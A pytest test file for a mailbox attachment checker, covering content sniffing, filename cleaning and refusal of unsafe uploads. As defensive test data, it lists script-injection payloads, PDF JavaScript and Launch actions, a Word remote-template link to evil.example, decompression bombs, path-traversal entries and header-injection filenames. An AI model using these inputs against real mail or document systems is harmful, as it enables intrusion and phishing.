"""Which files a message takes: told from their content, whatever their names say."""

import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest
from PIL import Image

from service.plan.mailbox import attachments, office_files
from service.plan.mailbox.attachments import (
    ActivePdf,
    BrokenImage,
    EmptyFile,
    FileTooLarge,
    HarmfulFile,
    TooManyFiles,
    WrongKind,
    check,
    check_all,
    clean_name,
)
from service.plan.mailbox.office_files import HasMacros, LockedFile, NotAnOfficeFile, Overfull, UnusableFile
from tests.plan.files import EICAR, EXE, PDF, picture, word, zipped


@pytest.mark.parametrize(
    ("name", "content", "kept", "media_type"),
    [
        ("w9.pdf", PDF, "w9.pdf", "application/pdf"),
        ("scan.PNG", picture("PNG"), "scan.PNG", "image/png"),
        ("scan.jpeg", picture("JPEG"), "scan.jpeg", "image/jpeg"),
        ("fax.tif", picture("TIFF"), "fax.tif", "image/tiff"),
        ("note.txt", "Días, 5 < 6\r\n".encode(), "note.txt", "text/plain"),
        ("from Excel.csv", "Muñoz;1\r\n".encode("cp1252"), "from Excel.csv", "text/csv"),
        ("letter.docx", word(), "letter.docx", office_files.WORD),
        ("sheet.xlsx", word(main="spreadsheetml.sheet"), "sheet.xlsx", office_files.EXCEL),
        ("picture.pdf", picture("PNG"), "picture.pdf.png", "image/png"),
        ("run.exe", PDF, "run.exe.pdf", "application/pdf"),
        ("noname", b"only words", "noname.txt", "text/plain"),
    ],
)
def test_a_file_keeps_its_name_and_gets_the_kind_of_its_content(
    name: str, content: bytes, kept: str, media_type: str
) -> None:
    taken = check(name, content)

    assert (taken.name, taken.media_type, taken.content) == (kept, media_type, content)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", EmptyFile),
        (b"a" * (10 * 1024 * 1024 + 1), FileTooLarge),
        (EXE, WrongKind),
        (b"\x7fELF\x02\x01\x01" + b"\0" * 60, WrongKind),
        (b"#!/bin/sh\necho\n", WrongKind),
        (b"<!DOCTYPE html><script>alert(1)</script>", WrongKind),
        (b"hello\n<script>alert(1)</script>", WrongKind),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', WrongKind),
        (b"\xef\xbb\xbf  <html>", WrongKind),
        (b"{\\rtf1\\ansi}", WrongKind),
        (picture("GIF"), WrongKind),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, WrongKind),
        (b"words\0words", WrongKind),
        (b"%PDF-1.4 cut off", WrongKind),
        (EICAR, HarmfulFile),
        (PDF + EICAR, HarmfulFile),
        (PDF + b"<script>alert(1)</script>", HarmfulFile),
        (PDF.replace(b"<<>>", b"<html><script>", 1), HarmfulFile),
        (PDF + zipped({"a.txt": b"a"}), HarmfulFile),
        (picture("PNG") + zipped({"a.txt": b"a"}), HarmfulFile),
        (picture("JPEG") + b"<html><script>alert(1)</script>", HarmfulFile),
        (PDF.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", 1), ActivePdf),
        (PDF.replace(b"<<>>", b"<</S/L#61unch>>", 1), ActivePdf),
        (picture("PNG")[:40], BrokenImage),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, BrokenImage),
    ],
)
def test_what_is_not_taken_is_refused_with_words(content: bytes, refusal: type[UnusableFile]) -> None:
    with pytest.raises(refusal) as caught:
        check("invoice.pdf", content)

    assert caught.value.name == "invoice.pdf"
    assert caught.value.sentence.endswith(".")


def test_a_picture_that_unpacks_to_gigabytes_is_not_opened() -> None:
    small = bytearray(picture("PNG"))
    # IHDR says 60,000 x 60,000; its checksum is set right.
    small[16:24] = (60_000).to_bytes(4, "big") * 2
    small[29:33] = zlib.crc32(small[12:29]).to_bytes(4, "big")

    with pytest.raises(BrokenImage):
        check("scan.png", bytes(small))


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (lambda: zipped({"a.txt": b"a"}), NotAnOfficeFile),
        (lambda: word(main="presentationml.presentation"), NotAnOfficeFile),
        (lambda: word({"word/vbaProject.bin": b"x"}), HasMacros),
        (lambda: word(types=b"application/vnd.ms-word.document.macroEnabled.main+xml"), HasMacros),
        (lambda: word({"word/embeddings/oleObject1.bin": b"x"}), HasMacros),
        (lambda: word({"word/media/a.exe": b"x"}), HasMacros),
        (lambda: word({"word/media/image1.png": EXE}), HasMacros),
        (lambda: word({"word/media/image1.png": EICAR}), HasMacros),
        (
            lambda: word(
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                    b'TargetMode="External"/>'
                }
            ),
            HasMacros,
        ),
        (lambda: word({"../../x": b"x"}), NotAnOfficeFile),
        (lambda: word({"/etc/x": b"x"}), NotAnOfficeFile),
        (lambda: word({"word\\x": b"x"}), NotAnOfficeFile),
        (lambda: word({"WORD/DOCUMENT.XML": b"x"}), NotAnOfficeFile),
        (lambda: word({"word/media/big.bmp": b"\0" * (70 * 1024 * 1024)}), Overfull),
        (lambda: word({"word/media/big.bmp": b"\0" * (20 * 1024 * 1024)}), Overfull),
        (lambda: word({f"word/{number}": b"" for number in range(2_100)}), Overfull),
        (lambda: word() + b"<script>alert(1)</script>", NotAnOfficeFile),
        (lambda: word() + PDF, NotAnOfficeFile),
        (lambda: word()[:-40], NotAnOfficeFile),
        (lambda: _lying(word({"word/media/big.bmp": b"\0" * (30 * 1024 * 1024)}), 30 * 1024 * 1024), NotAnOfficeFile),
        (lambda: _encrypted(word()), LockedFile),
    ],
)
def test_an_archive_is_taken_only_as_a_plain_document(
    content: Callable[[], bytes], refusal: type[UnusableFile]
) -> None:
    with pytest.raises(refusal):
        check("letter.docx", content())


def _lying(archive: bytes, size: int) -> bytes:
    """An archive whose directory says that the large part is small."""
    return archive.replace(size.to_bytes(4, "little"), (1_000).to_bytes(4, "little"))


def _encrypted(archive: bytes) -> bytes:
    changed = bytearray(archive)
    start = changed.find(b"PK\x01\x02")
    changed[start + 8] |= 1
    return bytes(changed)


@pytest.mark.filterwarnings("ignore::UserWarning:PIL.*")
def test_a_cut_or_bent_file_is_refused_and_never_breaks() -> None:
    for whole in (word(), picture("PNG"), picture("JPEG"), picture("TIFF"), PDF):
        for place in range(0, len(whole), max(1, len(whole) // 60)):
            for bent in (whole[:place], whole[:place] + b"\xff" + whole[place + 1 :]):
                try:
                    check("x.bin", bent)
                except UnusableFile as refusal:
                    assert refusal.sentence


def test_a_message_takes_five_files() -> None:
    assert len(check_all([("a.txt", b"a")] * 5)) == 5
    with pytest.raises(TooManyFiles):
        check_all([("a.txt", b"a")] * 6)


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\x.txt", "x.txt"),
        ("C:\\Users\\me\\w9.pdf", "w9.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ('x"; filename=evil.exe', "x_; filename=evil.exe"),
        ("a\r\nSet-Cookie: x=1", "aSet-Cookie_ x=1"),
        ("  .hidden. ", "hidden"),
        ("...", "file"),
        ("", "file"),
        ("NUL.txt", "_NUL.txt"),
        ("días.pdf", "días.pdf"),
    ],
)
def test_a_name_becomes_a_plain_name(given: str, cleaned: str) -> None:
    assert clean_name(given) == cleaned


@pytest.mark.parametrize("letter", ["\N{FOX FACE}", "ü", "漢", "a\N{COMBINING DIAERESIS}"])
def test_a_long_name_keeps_its_end(letter: str) -> None:
    cleaned = clean_name(f"{letter * 255}.pdf")

    assert cleaned.endswith(".pdf")
    assert len(cleaned) <= 120 and len(cleaned.encode()) <= 244


def test_the_limits_are_what_the_page_says() -> None:
    assert (attachments.MOST_FILES, attachments.MOST_BYTES) == (5, 10 * 1024 * 1024)


def test_pictures_of_honest_size_are_read() -> None:
    out = BytesIO()
    Image.new("L", (4_000, 5_000)).save(out, "PNG")

    assert check("page.png", out.getvalue()).media_type == "image/png"
    assert zipfile.is_zipfile(BytesIO(word()))
